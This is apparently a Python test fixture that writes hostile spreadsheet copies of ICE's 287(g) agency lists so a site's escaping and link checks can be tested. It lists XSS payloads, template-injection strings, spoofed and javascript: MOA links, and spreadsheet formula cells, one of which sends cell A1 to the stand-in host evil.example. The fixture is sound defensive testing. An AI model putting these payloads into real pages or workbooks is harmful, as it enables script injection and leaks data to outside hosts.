"""A corpus of hostile ICE lists, written by the tests themselves: what a stranger could put on ICE's page.

Each payload stands for a class of attack, with the forms a tester would try next beside it:
markup that closes the title, other tags and event handlers, entity- and case-encoded forms,
script URLs, formula cells, control and bidirectional characters, names in scripts with no
ASCII letters, names longer than a file name may be, and MOA links to other hosts.
"""

from __future__ import annotations

from pathlib import Path

from ledger.sources.sample import workbook_bytes

PARTICIPATING = ["STATE", "LAW ENFORCEMENT AGENCY", "TYPE", "COUNTY", "SUPPORT TYPE", "SIGNED", "MOA"]
PENDING = ["STATE", "LAW ENFORCEMENT AGENCY", "TYPE", "COUNTY", "SUPPORT TYPE"]
ICE_MOA = "https://www.ice.gov/doclib/287gMOA/hostile/{}.pdf"

# Names that would run code if any exit forgot to escape them. The browser test watches for the
# dialog any of these would open, and the site check for the markup they would leave.
MARKUP_NAMES = [
    "</title><img src=x onerror=alert(1)> Sheriff's Office",
    "<script>alert(2)</script> County Sheriff's Office",
    '"><svg onload=alert(3)> Police Department',
    "<iframe srcdoc='<script>alert(4)</script>'></iframe> Jail",
    "&lt;img src=x onerror=alert(5)&gt; Marshal's Office",
    "<ScRiPt >alert(6)</sCrIpT> Constable",
    "<a href=\"javascript:alert(7)\">click</a> Sheriff",
    "{{ 7*7 }} {% raw %} Jinja County Sheriff's Office",
    "[link](javascript:alert(8)) *Markdown* | Pipe | County Sheriff",
    "</script><script>alert(9)</script> Task Force",
    "<style>body{display:none}</style> Style Sheriff",
    "<math><mi xlink:href=\"data:x,alert(10)\">x</mi></math> Math Police",
]
# What a spreadsheet would run: OWASP's leading characters, and the forms seen in the audit.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for MOA")',
    "+1+1 Sheriff's Office",
    "-2+3 Police Department",
    "@SUM(1+1) County Jail",
    "\t=1+1 Tab Sheriff",
]
# Characters that hide or reorder text, and names with no ASCII letters at all.
INVISIBLE_NAMES = [
    # The sheet's XML cannot hold a NUL or an escape character; Excel writes them as _x0000_ escapes.
    "Null_x0000_Byte_x001B_ County Sheriff's Office",
    "Bidi \u202egnirts desrever\u202c Police Department",
    "Zero\u200bWidth County Sheriff's Office",
]
SCRIPT_NAMES = ["شرطة مقاطعة هاريس", "哈里斯县警长办公室", "🚓🚓🚓"]
LONG_NAMES = ["Long " * 60 + "County Sheriff's Office A", "Long " * 60 + "County Sheriff's Office B"]

# MOA cells: (text, hyperlink). Only https on ICE's host, or the web archive's copy of one, is a link.
BAD_MOAS = [
    ("link", "javascript:alert(11)"),
    ("link", "https://www.ice.gov.evil.example/moa.pdf"),
    ("link", "https://user:pass@www.ice.gov/doclib/287gMOA/x.pdf"),
    ("link", "https://nam11.safelinks.protection.outlook.com/?url=javascript%3Aalert(12)&data=x"),
    ("link", "https://nam11.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Fmoa.pdf"),
    ("link", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4="),
    ('=HYPERLINK("http://evil.example","MOA")', None),
]
GOOD_MOAS = [
    ("link", "https://www.ice.gov/doclib/287gMOA/hostile/good.pdf"),
    ("link", "https://web.archive.org/web/20250101000000/https://www.ice.gov/doclib/287gMOA/hostile/archived.pdf"),
    ("link", "https://nam11.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.ice.gov%2Fdoclib%2F287gMOA%2Fhostile%2Fwrapped.pdf&data=x"),
]
COUNTIES = ["Harris", "Dallas", "Travis", "Bexar", "Tarrant", "El Paso", "Collin", "Denton"]


def hostile_names() -> list[str]:
    return MARKUP_NAMES + FORMULA_NAMES + INVISIBLE_NAMES + SCRIPT_NAMES + LONG_NAMES


def participating_rows(signed: str = "2025-03-01") -> list[list]:
    """One Texas row per hostile name, the bad MOA links spread over them, a few good ones after."""
    rows = []
    moas = BAD_MOAS + GOOD_MOAS
    for i, name in enumerate(hostile_names()):
        moa = moas[i % len(moas)]
        rows.append(["TEXAS", name, "County", COUNTIES[i % len(COUNTIES)], "Warrant Service Officer", signed, moa])
    rows.append(["TEXAS", "Ordinary County Sheriff's Office", "County", "Ordinary", "Jail Enforcement Model", signed, ("link", ICE_MOA.format("ordinary"))])
    return rows


def write_corpus(folder: Path) -> list[Path]:
    """Two participating lists (one name dropped from the second) and a pending list, in ICE's layout."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = participating_rows()
    lists = [
        ("participatingAgencies03102025am.xlsx", PARTICIPATING, rows),
        ("participatingAgencies03172025am.xlsx", PARTICIPATING, rows[1:]),
        (
            "pendingAgencies03172025am.xlsx",
            PENDING,
            [["TEXAS", name, "County", "Harris", "Task Force Model"] for name in MARKUP_NAMES[:4] + FORMULA_NAMES[:2]],
        ),
    ]
    paths = []
    for name, header, body in lists:
        path = folder / name
        path.write_bytes(workbook_bytes(header, body))
        paths.append(path)
    return paths
